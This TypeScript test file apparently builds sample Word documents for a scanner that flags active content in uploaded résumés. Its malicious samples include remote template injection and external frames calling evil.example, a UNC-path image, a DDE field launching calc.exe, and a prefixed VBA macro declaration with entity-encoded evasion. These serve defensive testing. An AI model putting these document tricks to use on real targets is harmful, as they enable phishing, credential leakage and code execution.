import { contentTypesXml, docxParts, relationships, sampleDocx } from '../support/sample-files.ts'
import { writeZip } from '../support/write-zip.ts'

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const packageNamespace = 'http://schemas.openxmlformats.org/package/2006/relationships'
const relationship = (kind: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="r1" Type="${office}/${kind}" Target="${target}"${mode}/>`
const withRelationships = (content: string) => sampleDocx([{ name: 'word/_rels/settings.xml.rels', content }])
const withText = (inside: string) =>
  writeZip(
    docxParts().map((part) =>
      part.name === 'word/document.xml'
        ? { ...part, content: String(part.content).replace('<w:p>', `<w:p>${inside}`) }
        : part,
    ),
  )

/** Word documents that load or run something. */
export const activeDocx = (): Record<string, Buffer> => ({
  'a template under a prefix': withRelationships(
    `<r:Relationships xmlns:r="${packageNamespace}"><r:Relationship Id="r1" Type="${office}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></r:Relationships>`,
  ),
  'a frame under a prefix, letter by number': withRelationships(
    `<q:Relationships xmlns:q="${packageNamespace}"><q:Relationship Id="r1" Type="${office}/fr&#97;me" Target="https://evil.example/" TargetMode="Ext&#x65;rnal"/></q:Relationships>`,
  ),
  'a picture from elsewhere': withRelationships(relationships(relationship('image', 'https://evil.example/a.png'))),
  'a picture from elsewhere that claims to be inside': withRelationships(
    relationships(relationship('image', '\\\\evil.example\\a.png', '')),
  ),
  'a link to a program': withRelationships(relationships(relationship('hyperlink', 'file:///c:/windows/calc.exe'))),
  'an inserted page': withRelationships(relationships(relationship('aFChunk', 'page.html', ''))),
  'macros declared under a prefix': writeZip(
    docxParts().map((part) =>
      part.name === '[Content_Types].xml'
        ? {
            ...part,
            content: contentTypesXml()
              .replace('<Types xmlns=', '<t:Types xmlns:t=')
              .replaceAll(/<(Default|Override)/g, '<t:$1')
              .replace(
                '</Types>',
                '<t:Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></t:Types>',
              ),
          }
        : part,
    ),
  ),
  'a field that starts a program': withText(
    '<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\calc.exe</w:instrText></w:r>',
  ),
  'a part that is no XML': sampleDocx([{ name: 'word/styles.xml', content: '<styles><open></styles>' }]),
  'text that is not UTF-8': withText('\u0000'),
})

/** Word documents with what résumés have. */
export const honestDocx = (): Record<string, Buffer> => ({
  'links to a page and an address': withRelationships(
    relationships(
      relationship('hyperlink', 'https://example.com/?a=1&amp;b=2') +
        relationship('hyperlink', 'mailto:maya@example.com').replace('r1', 'r2'),
    ),
  ),
  'a field with the number of the page': withText(
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>',
  ),
  'words about DDE': withText('<w:r><w:t>DDE and INCLUDE, which I know well</w:t></w:r>'),
})
